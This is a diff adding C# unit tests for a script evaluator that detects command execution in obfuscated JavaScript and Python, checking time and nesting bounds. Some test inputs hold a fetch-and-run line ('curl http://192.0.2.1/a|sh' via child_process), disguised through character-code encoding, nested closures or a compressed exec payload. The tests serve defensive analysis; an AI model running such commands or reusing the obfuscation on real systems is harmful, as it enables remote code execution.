@@ -49,6 +49,8 @@ public sealed class ScriptBoundsTests
     [InlineData("a.b(", "")]
     [InlineData("`${", "")]
     [InlineData("x=>", "x")]
+    [InlineData("def f(a):\n", "")]
+    [InlineData("function f(a) ", "")]
     public void Repetition_ends_in_bounded_time(string piece, string end)
     {
         var code = "s='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';" + new StringBuilder().Insert(0, piece, 200_000 / piece.Length) + end;
@@ -61,10 +63,82 @@ public sealed class ScriptBoundsTests
         Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"{watch.Elapsed}");
     }
 
+    [Theory]
+    [InlineData("python", "[x for x in ")]
+    [InlineData("python", "(x for x in ")]
+    [InlineData("python", "a if a else ")]
+    [InlineData("php", "(int)")]
+    [InlineData("javascript", "async ")]
+    [InlineData("javascript", "await ")]
+    [InlineData("ruby", "if ")]
+    public void Nesting_beyond_the_stack_ends_and_is_said(string language, string piece)
+    {
+        var analysis = new Analysis();
+        ScriptEvaluator.Evaluate(language, "x=" + string.Concat(Enumerable.Repeat(piece, 100_000)), 1, analysis);
+        Assert.Contains(analysis.Problems, problem => problem.Contains("nested too deeply", StringComparison.Ordinal) || problem.StartsWith("only the first", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void A_chain_of_members_costs_no_more_than_its_length()
+    {
+        var watch = Stopwatch.StartNew();
+        ScriptEvaluator.Evaluate("python", "x=" + string.Concat(Enumerable.Repeat("a.", 200_000)), 1, new Analysis());
+        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{watch.Elapsed}");
+    }
+
+    private static string Codes(string code) => string.Join(',', code.Select(static c => (int)c));
+
+    [Theory]
+    [InlineData("eval([CODES].map(c=>String.fromCharCode(c)).join(''))")]
+    [InlineData("let s='';const a=[CODES];for(let i=0;i<a.length;i++) s+=String.fromCharCode(a[i]);eval(s)")]
+    [InlineData("let s='';for(const c of [CODES]) s+=String.fromCharCode(c);eval(s)")]
+    public void Long_code_in_character_codes_is_computed_or_said(string code)
+    {
+        foreach (var padding in (int[])[6_000, 150_000])
+        {
+            var analysis = new Analysis();
+            var effects = ScriptEvaluator.Evaluate("javascript", code.Replace("CODES", Codes("//" + new string('#', padding) + "\nrequire('child_process').exec('curl http://192.0.2.1/a|sh')"), StringComparison.Ordinal), 1, analysis);
+            Assert.True(analysis.Problems.Count > 0 || effects.Any(effect => effect.Steps.Any(step => step.Kind is EffectKind.Run or EffectKind.Execute or EffectKind.Interpret)), $"{padding}");
+        }
+    }
+
+    [Fact]
+    public void Code_in_many_functions_is_read_or_said()
+    {
+        foreach (var depth in (int[])[3, 9, 30])
+        {
+            var analysis = new Analysis();
+            var effects = ScriptEvaluator.Evaluate("javascript", string.Concat(Enumerable.Repeat("(()=>{", depth)) + "require('child_process').exec('curl http://192.0.2.1/a|sh')" + string.Concat(Enumerable.Repeat("})()", depth)), 1, analysis);
+            Assert.True(effects.Count > 0 || analysis.Problems.Count > 0, $"{depth}");
+        }
+    }
+
+    [Fact]
+    public void A_long_loop_that_computes_no_code_is_not_said()
+    {
+        var analysis = new Analysis();
+        ScriptEvaluator.Evaluate("javascript", "const t=[];for(let i=0;i<9000;i++){let c=i;for(let k=0;k<80;k++)c=c&1?c>>>1^3988292384:c>>>1;t[i]=c}require('child_process').exec('id')", 1, analysis);
+        Assert.Empty(analysis.Problems);
+    }
+
+    [Fact]
+    public void Code_that_a_decoder_gives_up_on_is_said()
+    {
+        using var packed = new MemoryStream();
+        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
+        {
+            zlib.Write(new byte[5_000_000]);
+        }
+
+        var analysis = new Analysis();
+        ScriptEvaluator.Evaluate("python", $"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{Convert.ToBase64String(packed.ToArray())}')))\n", 1, analysis);
+        Assert.NotEmpty(analysis.Problems);
+    }
+
     public static TheoryData<string, string> CutOff() => new()
     {
         { "more than 2,000 steps in one script; the rest is left out", "import os\n" + string.Concat(Enumerable.Range(0, 2_500).Select(static i => $"os.system('a{i}')\n")) },
-        { "code that is computed was not computed to its end", "exec(''.join(chr(c^7) for c in [" + string.Join(',', Enumerable.Repeat("20", 70_000)) + "]))\n" },
+        { "code that is computed was not computed to its end", "exec(''.join(chr(c^7) for c in [" + string.Join(',', Enumerable.Repeat("20", 120_000)) + "]))\n" },
         { "code that is computed was not computed to its end", Burning + "def dec(s):\n return ''.join(chr(ord(c)^7) for c in s)\nexec(dec('kjkj'))\n" },
         { "functions that run commands or code were not read for each of their calls", "import os\ndef r(s):\n" + Body + " os.system(s)\n" + string.Concat(Enumerable.Range(0, 60).Select(static i => $"r('a{i}')\n")) },
     };
